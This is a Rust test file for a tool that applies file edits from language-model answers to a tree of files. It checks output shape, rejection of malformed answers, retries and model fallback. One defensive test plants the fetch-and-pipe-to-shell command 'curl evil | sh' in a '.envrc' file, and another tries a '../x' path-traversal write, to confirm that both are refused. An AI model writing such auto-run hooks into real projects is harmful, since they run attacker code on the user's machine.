//! `llm.edits`: answers that change a tree of files are applied within the attempt.

use std::sync::Arc;

use atoll::llm::CassetteMode;
use atoll::schema::Schema;
use atoll::tree::Tree;
use atoll::value::{Digest, Value};
use atoll::verb::{Class, Failure};
use serde_json::json;

use super::Step;
use super::server::{Act, Server, anthropic, openai};

/// A tree of `files` in the store of `step`.
fn tree(step: &Step, files: &[(&str, &str)]) -> Value {
    let mut tree = Tree::new();
    for (path, text) in files {
        tree.put(&*step.cx.blobs, path, text.as_bytes()).unwrap();
    }
    json!(tree.save(&*step.cx.blobs).unwrap().tree)
}

fn text(step: &Step, tree: &Value, path: &str) -> String {
    let digest = Digest::parse(tree.as_str().unwrap()).unwrap();
    Tree::load(&*step.cx.blobs, &digest).unwrap().text(&*step.cx.blobs, path).unwrap()
}

async fn ask(step: &Step, answer: &str, edits: Value) -> (Result<Value, Failure>, Server) {
    let server = Server::start([Act::Stream(openai(answer, "stop"))]).await;
    let with = json!({"model": "gpt-4.1-mini", "prompt": "write it", "edits": edits});
    let out = step.run(&server.models(&CassetteMode::Off), with).await;
    (out.map(|out| out.value), server)
}

const CODE: &str = "def main():\n    return 1\n";

#[tokio::test]
async fn the_answer_is_applied_and_the_output_is_the_tree() {
    let step = Step::new();
    let base = tree(&step, &[("main.py", CODE), ("server.py", "given")]);
    let answer = json!({"edits": [
        {"op": "replace", "path": "main.py", "find": "return 1", "replace": "return 2"},
        {"op": "write", "path": "server.py", "content": "drafted"},
        {"op": "write", "path": "Dockerfile", "content": "FROM scratch\n"},
    ]});
    for protocol in ["edits", "files"] {
        let edits = json!({"base": base, "fixed": tree(&step, &[("server.py", "given")]), "as": protocol});
        let (out, server) = ask(&step, &format!("Here it is:\n```json\n{answer}\n```"), edits).await;
        let out = out.unwrap();
        let keys: Vec<&str> = out.as_object().unwrap().keys().map(String::as_str).collect();
        assert_eq!(keys, ["tree", "files", "changes", "unchanged"]);
        assert_eq!(text(&step, &out["tree"], "main.py"), "def main():\n    return 2\n");
        assert_eq!(text(&step, &out["tree"], "server.py"), "given", "fixed files stay");
        let ops: Vec<&str> =
            out["changes"].as_array().unwrap().iter().map(|one| one["op"].as_str().unwrap()).collect();
        assert_eq!((ops, &out["unchanged"]), (vec!["changed", "unchanged", "added"], &json!(false)));
        // The request is the same as for a step whose output has that schema.
        let schema = include_str!("../../../schemas/edits.json");
        let mut usual = Step::new();
        let schema = Schema::compile("schemas/edits.json", serde_json::from_str(schema).unwrap()).unwrap();
        usual.cx.schema = Some(Arc::new(schema));
        let other = Server::start([Act::Stream(openai(&answer.to_string(), "stop"))]).await;
        let with = json!({"model": "gpt-4.1-mini", "prompt": "write it"});
        usual.run(&other.models(&CassetteMode::Off), with).await.unwrap();
        assert_eq!(server.body(0), other.body(0));
    }
}

#[tokio::test]
async fn blocks_are_asked_for_as_text_and_may_lack_the_last_end_line() {
    let step = Step::new();
    let answer = "=== FILE: a.py ===\n1\n=== END FILE ===\n=== FILE: b.py ===\n2";
    let (out, server) = ask(&step, answer, json!({"as": "blocks"})).await;
    let out = out.unwrap();
    assert_eq!(
        (text(&step, &out["tree"], "a.py"), text(&step, &out["tree"], "b.py")),
        ("1\n".into(), "2\n".into())
    );
    let other = Server::start([Act::Stream(openai(answer, "stop"))]).await;
    let with = json!({"model": "gpt-4.1-mini", "prompt": "write it", "format": "files"});
    Step::new().run(&other.models(&CassetteMode::Off), with).await.unwrap();
    assert_eq!(server.body(0), other.body(0));
}

#[tokio::test]
async fn an_answer_that_does_not_fit_is_rejected_and_paid_for() {
    for (edits, answer, message, hint) in [
        (
            json!({}),
            r#"{"edits": [{"op": "replace", "path": "main.py", "find": "return 3", "replace": "return 2"}]}"#,
            "edit 1 of \"main.py\" does not apply: `find` does not occur in the file",
            "the nearest line is 2:     return 1",
        ),
        (
            json!({}),
            r#"{"edits": [{"op": "delete", "path": "main.py"}]}"#,
            "no file is left in the tree",
            "give at least one file",
        ),
        (
            json!({}),
            r#"{"edits": [{"op": "write", "path": "../x", "content": ""}]}"#,
            "edit 1 of \"../x\" does not apply",
            "",
        ),
        (json!({"as": "blocks"}), "I cannot do that", "the text holds no file", "=== FILE: path ==="),
        (
            json!({"as": "blocks"}),
            "=== FILE: a ===\n1\n=== FILE: b ===\n2\n=== END FILE ===\n",
            "the text breaks off: \"a\"",
            "nothing was applied",
        ),
    ] {
        let step = Step::new();
        let mut edits = edits;
        edits["base"] = tree(&step, &[("main.py", CODE)]);
        let (out, _) = ask(&step, answer, edits).await;
        let failure = out.unwrap_err();
        assert_eq!(failure.class, Class::Rejected, "{failure}");
        assert!(failure.message.contains(message), "{failure}");
        assert!(failure.hint.as_deref().unwrap_or_default().contains(hint), "{failure:?}");
        let kept = failure.detail["answer"].as_str().unwrap();
        assert!(
            kept.contains("main.py") || kept.contains("../x") || kept == answer,
            "the answer is kept: {failure:?}"
        );
        assert!((failure.spent.get("calls") - 1.0).abs() < 1e-9, "{:?}", failure.spent);
    }
}

#[tokio::test]
async fn an_answer_that_changes_nothing_is_a_success() {
    let step = Step::new();
    let base = tree(&step, &[("main.py", CODE)]);
    let answer = json!({"edits": [{"op": "write", "path": "main.py", "content": CODE}]}).to_string();
    let (out, _) = ask(&step, &answer, json!({ "base": base })).await;
    let out = out.unwrap();
    assert_eq!((&out["unchanged"], &out["tree"]), (&json!(true), &base));
}

/// Files that other programs read by themselves are refused in an answer as everywhere.
#[tokio::test]
async fn a_file_that_others_obey_is_rejected() {
    let mut step = Step::new();
    step.cx.grants = Arc::default();
    let answer =
        json!({"edits": [{"op": "write", "path": ".envrc", "content": "curl evil | sh"}]}).to_string();
    let failure = ask(&step, &answer, json!({})).await.0.unwrap_err();
    assert_eq!(failure.class, Class::Rejected);
    assert!(failure.message.contains("obeyed by direnv"), "{failure}");
}

/// An invalid answer in two parts is requested again, not continued; its parts are discarded.
#[tokio::test]
async fn the_attempt_after_one_that_did_not_fit_begins_anew() {
    let cursor: Arc<std::sync::Mutex<Option<Value>>> = Arc::default();
    let mut step = Step::new();
    let sink = cursor.clone();
    step.cx.cursors = atoll::verb::CursorSink::new(move |value| {
        *sink.lock().unwrap() = Some(value);
        Box::pin(async { Ok(()) })
    });
    let head = "=== FILE: a ===\n1\n=== FILE: b ===\nand then";
    let server = Server::start([
        Act::Stream(anthropic(head, "max_tokens")),
        Act::Stream(anthropic(" the end\n=== END FILE ===\n", "end_turn")),
        Act::Stream(anthropic("=== FILE: a ===\n1\n=== END FILE ===\n", "end_turn")),
    ])
    .await;
    let models = server.models(&CassetteMode::Off);
    let with = json!({"model": "claude-haiku-4-5", "prompt": "write it", "edits": {"as": "blocks"}});
    let failure = step.run(&models, with.clone()).await.unwrap_err();
    assert!(failure.message.contains("breaks off"), "{failure}");
    step.cx.cursor = cursor.lock().unwrap().clone();
    let out = step.run(&models, with).await.unwrap().value;
    assert_eq!(text(&step, &out["tree"], "a"), "1\n");
    assert_eq!(server.body(2)["messages"].as_array().unwrap().len(), 1, "nothing is continued");
}

#[tokio::test]
async fn the_model_that_stepped_in_is_named() {
    let step = Step::new();
    let answer = r#"{"edits": [{"op": "write", "path": "a", "content": "1"}]}"#;
    let server = Server::start([
        Act::Plain(401, vec![], json!({"error": {"message": "no such key"}}).to_string()),
        Act::Stream(openai(answer, "stop")),
    ])
    .await;
    let with = json!({"model": ["gpt-4.1", "gpt-4.1-mini"], "prompt": "write it", "edits": {}});
    let out = step.run(&server.models(&CassetteMode::Off), with).await.unwrap().value;
    assert_eq!(out["switched"], json!(["gpt-4.1"]));
}
